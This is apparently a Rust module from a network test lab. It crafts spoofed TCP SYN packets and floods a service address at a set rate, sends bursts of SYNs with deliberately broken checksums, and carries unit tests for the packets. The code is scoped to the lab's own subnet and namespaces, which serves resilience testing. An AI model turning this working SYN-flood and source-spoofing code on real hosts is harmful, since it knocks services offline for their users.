//! A SYN flood from the client namespace: SYNs to the service address from spoofed sources
//! (addresses of the lab's subnet that no host holds, random ports and ISNs), paced to a rate
//! and bounded in count and time. They leave as raw IPv4 packets the client's kernel routes,
//! so they reach whichever node the service address's neighbour entry names, as a real
//! attacker's would. Only the lab's own namespaces are ever targeted.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::error::LabError;
use crate::system::run_in_namespace;

/// Spoofed sources: the upper half of the lab's /24, which no lab host holds.
const SPOOFED_FIRST: u8 = 128;
const SPOOFED_LAST: u8 = 250;
/// The most SYNs one flood sends, whatever its rate and duration.
pub const MAX_FLOOD_SYNS: u64 = 10_000_000;
/// The pacing tick: each sends the SYNs due by then.
const TICK: Duration = Duration::from_millis(1);

#[derive(Debug, Clone, Copy)]
pub struct FloodOptions {
    pub target: SocketAddrV4,
    pub syns_per_second: u32,
    pub duration: Duration,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FloodReport {
    pub sent: u64,
    /// SYNs the client's kernel would not send (its queue full): not counted in `sent`.
    pub send_errors: u64,
    pub took: Duration,
}

impl FloodReport {
    /// SYNs per second actually sent.
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.took.as_secs_f64().max(1e-9)
    }
}

/// Floods `options.target` from `namespace` until the duration passes or `stop` is set.
pub fn syn_flood(
    namespace: &str,
    options: FloodOptions,
    stop: &AtomicBool,
) -> Result<FloodReport, LabError> {
    let (sender, mut random) = spoofing_sender(namespace)?;
    let total = (u64::from(options.syns_per_second) as f64 * options.duration.as_secs_f64())
        .min(MAX_FLOOD_SYNS as f64) as u64;
    let started = Instant::now();
    let mut report = FloodReport::default();
    let mut packet = Vec::with_capacity(64);
    let mut attempted = 0u64;
    while attempted < total && !stop.load(Ordering::Relaxed) {
        let elapsed = started.elapsed();
        if elapsed >= options.duration {
            break;
        }
        let due = ((u64::from(options.syns_per_second) as f64 * elapsed.as_secs_f64()) as u64)
            .clamp(attempted, total);
        while attempted < due {
            attempted += 1;
            packet.clear();
            spoofed_syn(&mut random, options.target, &mut packet);
            match sender.send(&packet, *options.target.ip()) {
                Ok(()) => report.sent += 1,
                Err(_) => report.send_errors += 1,
            }
        }
        std::thread::sleep(TICK);
    }
    report.took = started.elapsed();
    Ok(report)
}

/// The most SYNs one [`spoofed_syns`] call sends.
const MAX_SPOOFED_SYNS: u32 = 10_000;

/// The spoofed source of SYN `i` of a [`spoofed_syns`] call: each its own address and port
/// (random ones could repeat a 4-tuple, whose second SYN would replace the first's image at
/// the backup): the hosts in turn, the port one up per round.
fn nth_source(i: u32, first_port: u16) -> (u8, u16) {
    let hosts = u32::from(SPOOFED_LAST - SPOOFED_FIRST + 1);
    (
        SPOOFED_FIRST + (i % hosts) as u8,
        first_port + (i / hosts) as u16,
    )
}

/// Sends `count` (at most 10,000) spoofed SYNs like the flood's to `target` from `namespace`,
/// at once, each from its own address and port. With `damaged`, one bit of each TCP header is
/// flipped after its checksum was computed, as by a link that corrupts frames: a receiver
/// that verifies the checksum drops them. Returns how many the client's kernel took.
pub fn spoofed_syns(
    namespace: &str,
    target: SocketAddrV4,
    count: u32,
    damaged: bool,
) -> Result<u64, LabError> {
    let (sender, mut random) = spoofing_sender(namespace)?;
    let mut packet = Vec::with_capacity(64);
    let mut sent = 0;
    let first_port = 1024 + (random.next() % 60_000) as u16;
    for i in 0..count.min(MAX_SPOOFED_SYNS) {
        packet.clear();
        let (host, port) = nth_source(i, first_port);
        spoofed_syn_from(&mut random, target, host, port, &mut packet);
        if damaged {
            damage(&mut packet);
        }
        if sender.send(&packet, *target.ip()).is_ok() {
            sent += 1;
        }
    }
    Ok(sent)
}

/// etherparse writes an IPv4 header without options.
const IPV4_HEADER_LEN: usize = 20;
const TCP_WINDOW_OFFSET: usize = 14;

/// Flips a bit of the TCP window of an IPv4 packet built by [`spoofed_syn`], leaving its
/// checksum as it was.
fn damage(packet: &mut [u8]) {
    packet[IPV4_HEADER_LEN + TCP_WINDOW_OFFSET] ^= 0x04;
}

/// A raw IPv4 sender in `namespace` and a generator seeded at random for spoofed fields.
fn spoofing_sender(
    namespace: &str,
) -> Result<(steadfast_os::raw_ip::RawIpSender, XorShift), LabError> {
    let failed = |source| LabError::Flood {
        namespace: namespace.to_string(),
        source,
    };
    let sender =
        run_in_namespace(namespace, steadfast_os::raw_ip::RawIpSender::open)?.map_err(failed)?;
    let mut seed = [0u8; 8];
    getrandom::getrandom(&mut seed).map_err(|e| {
        failed(steadfast_os::OsError::Io {
            what: "drawing a seed for spoofed SYNs".into(),
            source: std::io::Error::other(e.to_string()),
        })
    })?;
    Ok((sender, XorShift(u64::from_le_bytes(seed) | 1)))
}

/// A SYN to `target` from a random spoofed address and port, with a random ISN and the
/// options a Linux client sends.
fn spoofed_syn(random: &mut XorShift, target: SocketAddrV4, packet: &mut Vec<u8>) {
    let bits = random.next();
    let host = SPOOFED_FIRST + (bits % u64::from(SPOOFED_LAST - SPOOFED_FIRST + 1)) as u8;
    let port = 1024 + ((bits >> 16) % (65536 - 1024)) as u16;
    spoofed_syn_from(random, target, host, port, packet);
}

/// A SYN to `target` from host `host` of the lab's subnet and `port`, with a random ISN and
/// the options a Linux client sends.
fn spoofed_syn_from(
    random: &mut XorShift,
    target: SocketAddrV4,
    host: u8,
    port: u16,
    packet: &mut Vec<u8>,
) {
    let [a, b, c, _] = crate::topology::VIP.octets();
    let source = Ipv4Addr::new(a, b, c, host);
    let isn = (random.next() >> 32) as u32;
    let builder = etherparse::PacketBuilder::ipv4(source.octets(), target.ip().octets(), 64)
        .tcp(port, target.port(), isn, 64240)
        .syn()
        .options(&[
            etherparse::TcpOptionElement::MaximumSegmentSize(1460),
            etherparse::TcpOptionElement::SelectiveAcknowledgementPermitted,
            etherparse::TcpOptionElement::Noop,
            etherparse::TcpOptionElement::WindowScale(7),
        ])
        .expect("four options fit a TCP header");
    builder.write(packet, &[]).expect("a SYN fits in a vector");
}

/// A fast, good-enough generator for spoofed fields (xorshift64).
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_sources_of_a_burst_are_distinct_and_unused() {
        let first_port = 1024 + 59_999;
        let sources: std::collections::HashSet<(u8, u16)> = (0..MAX_SPOOFED_SYNS)
            .map(|i| nth_source(i, first_port))
            .collect();
        assert_eq!(sources.len(), MAX_SPOOFED_SYNS as usize);
        assert!(sources
            .iter()
            .all(|(host, port)| (SPOOFED_FIRST..=SPOOFED_LAST).contains(host) && *port >= 1024));
    }

    #[test]
    fn spoofed_syns_are_valid_syns_from_unused_lab_addresses() {
        let target = SocketAddrV4::new(crate::topology::VIP, 80);
        let mut random = XorShift(12345);
        let mut packet = Vec::new();
        for _ in 0..1000 {
            packet.clear();
            spoofed_syn(&mut random, target, &mut packet);
            let parsed = etherparse::SlicedPacket::from_ip(&packet).expect("an IPv4 packet");
            let Some(etherparse::NetSlice::Ipv4(ip)) = parsed.net else {
                panic!("not IPv4");
            };
            let source = ip.header().source_addr();
            assert_eq!(source.octets()[..3], crate::topology::VIP.octets()[..3]);
            assert!((SPOOFED_FIRST..=SPOOFED_LAST).contains(&source.octets()[3]));
            assert_eq!(ip.header().destination_addr(), crate::topology::VIP);
            let Some(etherparse::TransportSlice::Tcp(tcp)) = parsed.transport else {
                panic!("not TCP");
            };
            assert!(tcp.syn() && !tcp.ack() && !tcp.rst());
            assert_eq!(tcp.destination_port(), 80);
            assert!(tcp.source_port() >= 1024);
            let checksum = tcp
                .to_header()
                .calc_checksum_ipv4(&ip.header().to_header(), &[])
                .unwrap();
            assert_eq!(tcp.checksum(), checksum, "a checksum the server accepts");
        }
    }

    #[test]
    fn a_damaged_syn_is_the_same_syn_with_a_checksum_that_no_longer_matches() {
        let target = SocketAddrV4::new(crate::topology::VIP, 80);
        let mut packet = Vec::new();
        spoofed_syn(&mut XorShift(777), target, &mut packet);
        let mut damaged = packet.clone();
        damage(&mut damaged);
        let parsed = etherparse::SlicedPacket::from_ip(&damaged).expect("still an IPv4 packet");
        let (Some(etherparse::NetSlice::Ipv4(ip)), Some(etherparse::TransportSlice::Tcp(tcp))) =
            (parsed.net, parsed.transport)
        else {
            panic!("still IPv4 and TCP");
        };
        assert!(tcp.syn() && !tcp.ack());
        assert_eq!(
            tcp.window_size(),
            64240 ^ 0x0400,
            "a bit of the window's high byte"
        );
        let checksum = tcp
            .to_header()
            .calc_checksum_ipv4(&ip.header().to_header(), &[])
            .unwrap();
        assert_ne!(tcp.checksum(), checksum, "the checksum no longer matches");
        assert_eq!(damaged.len(), packet.len());
    }
}
